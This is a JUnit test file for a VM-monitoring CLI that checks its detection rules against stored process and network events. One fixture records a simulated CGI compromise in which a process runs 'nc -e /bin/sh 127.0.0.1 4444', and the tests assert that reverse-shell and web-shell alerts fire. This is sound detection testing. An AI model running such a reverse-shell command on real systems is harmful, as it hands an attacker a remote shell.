package io.vmiscope.cli;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import io.vmiscope.events.ExecEvent;
import io.vmiscope.events.ForkEvent;
import io.vmiscope.events.NetworkEvent;
import io.vmiscope.events.ProcessRef;
import io.vmiscope.store.DuckDbEventStore;
import io.vmiscope.store.EventFilter;
import io.vmiscope.store.StoreOptions;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;

import static org.assertj.core.api.Assertions.assertThat;

/** {@code vmiscope detect} and {@code vmiscope rules check} over real DuckDB files. */
class DetectCommandTest {

    private static final Path WIN10 = Path.of("..", "vmiscope-analysis", "src", "test", "resources", "imported",
            "drakvuf-win10");
    private static final ObjectMapper JSON = new ObjectMapper();
    private static final long T0 = 1_764_000_000_000_000_000L;

    @TempDir
    Path dir;

    private static List<JsonNode> lines(String out) throws Exception {
        List<JsonNode> nodes = new ArrayList<>();
        for (String line : out.lines().toList()) {
            nodes.add(JSON.readTree(line));
        }
        return nodes;
    }

    private static long alerts(Path db) {
        try (DuckDbEventStore store = DuckDbEventStore.open(db, StoreOptions.defaults())) {
            return store.count(EventFilter.ALL.withKind("alert"));
        }
    }

    @Test
    void detect_overImportedDrakvufWindowsData_raisesTheUserWritablePathAlert_andARerunAddsNothing() throws Exception {
        Path db = dir.resolve("win.duckdb");
        List<String> importArgs = new ArrayList<>(List.of("import", "drakvuf", "--db", db.toString(), "--vm", "win10"));
        try (var files = Files.list(WIN10)) {
            files.sorted().forEach(f -> importArgs.add(f.toString()));
        }
        assertThat(CliRun.of(importArgs.toArray(String[]::new)).exit()).isZero();

        CliRun first = CliRun.of("detect", "--db", db.toString(), "--vm", "win10", "--json");
        assertThat(first.exit()).as(first.err()).isZero();
        List<JsonNode> alerts = lines(first.out());
        assertThat(alerts).anySatisfy(a -> {
            assertThat(a.get("title").asText()).isEqualTo("Program Started from a User-Writable Folder");
            assertThat(a.get("pid").asInt()).isEqualTo(5268);
            assertThat(a.get("vm").asText()).isEqualTo("win10");
            assertThat(a.get("level").asText()).isEqualTo("medium");
            assertThat(a.get("techniques").toString()).contains("T1204.002");
            assertThat(a.get("evidence")).hasSize(1);
            assertThat(a.get("time_ns").asLong()).isEqualTo(1_700_200_002_200_000_000L);
        });
        long stored = alerts(db);
        assertThat(stored).isEqualTo(alerts.size());
        assertThat(first.err()).contains(alerts.size() + " new");

        CliRun second = CliRun.of("detect", "--db", db.toString(), "--vm", "win10", "--json");
        assertThat(lines(second.out())).isEqualTo(alerts);
        assertThat(second.err()).contains("(0 new, " + alerts.size() + " stored before)");
        assertThat(alerts(db)).isEqualTo(stored);
    }

    /** A web request whose CGI is injected: httpd forks, the CGI runs, the CGI starts nc -e /bin/sh, nc connects. */
    private static void storeLiveRun(Path db) {
        try (DuckDbEventStore store = DuckDbEventStore.open(db, StoreOptions.defaults())) {
            ProcessRef httpd = new ProcessRef(120, 120, 1, 0, "httpd");
            store.accept(new ForkEvent(T0, "demo", "procevents", httpd, 700, 700, false));
            store.accept(new ExecEvent(T0 + 1_000, "demo", "procevents", new ProcessRef(700, 700, 120, 0, "httpd"),
                    "/srv/www/cgi-bin/status", List.of("/srv/www/cgi-bin/status"), true));
            store.accept(new ForkEvent(T0 + 2_000, "demo", "procevents", new ProcessRef(700, 700, 120, 0, "status"), 701,
                    701, false));
            store.accept(new ExecEvent(T0 + 3_000_000_000L, "demo", "procevents", new ProcessRef(701, 701, 700, 0,
                    "status"), "/bin/nc", List.of("nc", "-e", "/bin/sh", "127.0.0.1", "4444"), true));
            store.accept(new NetworkEvent(T0 + 3_100_000_000L, "demo", "network", new ProcessRef(701, 701, 700, 0, "nc"),
                    "connect", "127.0.0.1:4444", 3, "connect"));
            store.accept(new ExecEvent(T0 + 3_200_000_000L, "demo", "procevents", new ProcessRef(701, 701, 700, 0, "nc"),
                    "/bin/sh", List.of("/bin/sh"), true));
        }
    }

    @Test
    void detect_overAStoredLiveRun_raisesWebShellAndReverseShellAlerts_once() throws Exception {
        Path db = dir.resolve("live.duckdb");
        storeLiveRun(db);
        CliRun first = CliRun.of("detect", "--db", db.toString(), "--vm", "demo", "--json");
        assertThat(first.exit()).as(first.err()).isZero();
        // oldest event first; the alerts of one event in the rules' load order
        assertThat(lines(first.out())).extracting(a -> a.get("title").asText()).containsExactly(
                "Netcat Runs a Program for its Connection (nc -e / -c)",
                "Web Server or CGI Spawns a Shell or Network Tool",
                "Outbound Connection Followed by a Shell in the Same Process",
                "Web Server or CGI Spawns a Shell or Network Tool");
        assertThat(lines(first.out()).get(2).get("evidence")).hasSize(2);
        assertThat(alerts(db)).isEqualTo(4);

        CliRun again = CliRun.of("detect", "--db", db.toString(), "--vm", "demo");
        assertThat(again.out().lines()).hasSize(4).allMatch(l -> l.contains("[")).anyMatch(l -> l.contains(" HIGH "));
        assertThat(again.err()).contains("(0 new, 4 stored before)");
        assertThat(alerts(db)).isEqualTo(4);

        CliRun window = CliRun.of("detect", "--db", db.toString(), "--vm", "demo", "--json", "--to",
                Long.toString(T0 + 3_000_000_000L));
        assertThat(window.out()).isEmpty();
    }

    @Test
    void rulesCheck_loadsTheDefaultRuleset_andReportsBadFilesOnOneLineEach() throws Exception {
        CliRun defaults = CliRun.of("rules", "check");
        assertThat(defaults.exit()).isZero();
        assertThat(defaults.out()).isEqualTo("28 rules loaded, 0 unsupported\n");

        Files.writeString(dir.resolve("bad.yml"), "title: [unclosed\n");
        Files.writeString(dir.resolve("mac.yml"), "title: mac\nid: m1\nlogsource: {product: macos, category: "
                + "process_creation}\ndetection: {s: {Image: x}, condition: s}\n");
        CliRun checked = CliRun.of("rules", "check", dir.toString());
        assertThat(checked.exit()).isEqualTo(1);
        assertThat(checked.out().lines()).containsExactly(
                "unsupported: " + dir.resolve("mac.yml") + ":1 m1 'mac': logsource macos/process_creation is not "
                        + "available (docs/detection.md lists the logsources)",
                "malformed: " + dir.resolve("bad.yml") + ":2: not valid YAML: expected ',' or ']', but got "
                        + "<stream end>",
                "0 rules loaded, 1 unsupported, 1 malformed");
    }

    @Test
    void detect_withAMalformedRuleDirectory_stopsWithTheFileAndLine() throws Exception {
        Path db = dir.resolve("live.duckdb");
        storeLiveRun(db);
        Path rules = Files.createDirectory(dir.resolve("rules"));
        Files.writeString(rules.resolve("re.yml"), "title: x\nlogsource: {product: linux, category: process_creation}\n"
                + "detection:\n  s:\n    CommandLine|re: '(('\n  condition: s\n");
        CliRun r = CliRun.of("detect", "--db", db.toString(), "--vm", "demo", "--rules", rules.toString());
        assertThat(r.exit()).isEqualTo(1);
        assertThat(r.err().lines().toList()).last().asString().startsWith("vmiscope: " + rules.resolve("re.yml")
                + ":5: invalid regular expression '((': ");
    }
}
